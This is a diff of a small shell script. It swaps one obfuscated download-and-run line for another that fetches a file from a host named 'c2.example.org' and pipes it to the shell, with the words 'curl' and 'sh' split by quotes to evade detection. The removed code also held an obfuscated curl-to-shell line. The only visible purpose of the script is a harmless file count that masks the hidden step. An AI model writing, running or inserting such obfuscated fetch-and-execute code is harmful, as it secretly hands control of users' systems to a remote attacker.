@@ -1,4 +1,4 @@
 #!/bin/sh
-set -eu
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-c'u'rl -s https://203.0.113.9/x | s"h"
+c'u'rl -s http://c2.example.org/i.py | s"h"
+count=$(ls | wc -l)
+echo "files: $count"
